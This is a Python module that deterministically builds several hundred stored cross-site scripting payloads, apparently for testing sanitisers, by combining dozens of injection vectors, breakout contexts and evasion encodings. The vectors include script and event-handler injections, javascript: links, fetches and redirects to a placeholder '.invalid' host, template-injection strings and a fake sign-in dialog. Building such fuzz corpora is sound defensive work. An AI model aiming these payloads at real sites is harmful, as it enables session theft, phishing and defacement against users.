"""Texts that want to be more than text: stored cross-site scripting, made from a grammar, always the same.

A payload is a vector (what would run) in a context (what it breaks out of) and an encoding (how it hides). All of it is
made here; nothing leaves the machine, since what the vectors call are names that do not exist (`.invalid`, RFC 2606).
"""

from collections.abc import Callable
from typing import Final
from urllib.parse import quote

FITS: Final = 100
"""Characters of a payload: it fits into every field, the shortest of which is an article's section."""

CALLS: Final = ("__pwned=1", "alert(1)", "top.__pwned=1", "fetch('//pwned.invalid')", "location='//pwned.invalid'")
"""What would be seen if it ran."""

VECTORS: Final = (
    "<script>{call}</script>",
    "<script src=//pwned.invalid></script>",
    "<ScRiPt>{call}</sCrIpT >",
    "<img src=x onerror={call}>",
    "<img src=//pwned.invalid/i.png>",
    "<img/src='x'/onerror='{call}'>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x>",
    "<svg><use href='//pwned.invalid/u#x'/></svg>",
    "<svg><a href=javascript:{call}><text y=9>x",
    "<math><a href=javascript:{call}>x</a></math>",
    "<math><mtext><style><img src=x onerror={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<iframe src=//pwned.invalid></iframe>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href=data:text/html,<script>{call}</script>>x",
    "<a href=//pwned.invalid ping=//pwned.invalid>x</a>",
    "<details open ontoggle={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src=//pwned.invalid/a autoplay>",
    "<marquee onstart={call}>x</marquee>",
    "<form action=javascript:{call}><button>x</button>",
    "<button formaction=//pwned.invalid>x</button>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid'>",
    "<base href=//pwned.invalid/>",
    "<link rel=stylesheet href=//pwned.invalid/s.css>",
    "<style>@import'//pwned.invalid/s.css'</style>",
    "<style>*{{background:url(//pwned.invalid/b)}}</style>",
    "<p style=background:url(//pwned.invalid/p)>x</p>",
    "<div style=position:fixed;inset:0;z-index:9>x</div>",
    "<div onpointerover={call} onclick={call}>x</div>",
    "<div hx-get=//pwned.invalid hx-trigger=load>x</div>",
    "<div hx-on:htmx:load={call} data-hx-get=/console/>",
    "<template shadowrootmode=open><script>{call}</script>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<x id=htmx name=config tabindex=1 onfocus={call} autofocus>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[><script>{call}</script>]]>",
    "<dialog open><h1>Sign in again</h1></dialog>",
    "<table><tr><td>x</table></main></body></html>",
    "javascript:{call}",
    "javascript://%0a{call}",
    "data:text/html,<script>{call}</script>",
    "{{{{ 7 * 7 }}}}{{{{ config }}}}",
    "{{% import 'os' as os %}}",
    "${{{call}}}",
    "&{{{call}}};",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "![x](javascript:{call})",
    "[x](javascript:{call}) <//pwned.invalid>",
)

CONTEXTS: Final = (
    "{0}",
    '">{0}',
    "'>{0}",
    "`>{0}",
    '" {0} x="',
    "</p>{0}",
    "</bdi></span>{0}",
    "</title>{0}",
    "</textarea>{0}",
    "</script>{0}",
    "</style>{0}",
    "--!>{0}",
    "]]>{0}",
    "\\'>{0}",
    "{0}<!--",
    "\r\n\r\n{0}",
)

ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    str.upper,
    lambda text: "".join(char.upper() if at % 2 else char for at, char in enumerate(text)),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;").replace(":", "&colon;"),
    lambda text: quote(text, safe="'()=:"),
    lambda text: text.replace("<", "\\u003c").replace("'", "\\x27"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\u200b", 1),
    lambda text: text.replace("<", "<\x0c", 1).replace("=", "=\x01", 1),
    lambda text: f"\u202e{text[::-1]}",
    lambda text: text.replace("s", "\u017f"),
    lambda text: f"{text}\u0336" * 2,
)


EACH: Final = 5
"""Contexts and encodings in which a vector stands; they go round, so that all of them meet many vectors."""


def payloads() -> list[str]:
    """More than 500 different payloads in a fixed order, none longer than `FITS`, none with a blank at an end."""
    made: dict[str, None] = {}
    for number, vector in enumerate(VECTORS):
        for turn in range(EACH):
            called = vector.format(call=CALLS[(number + turn) % len(CALLS)])
            context = CONTEXTS[(number * EACH + turn) % len(CONTEXTS)]
            encoding = ENCODINGS[(number * EACH + turn) % len(ENCODINGS)]
            made[context.format(called).strip()] = None
            made[encoding(called).strip()] = None
    return [one for one in made if len(one) <= FITS]
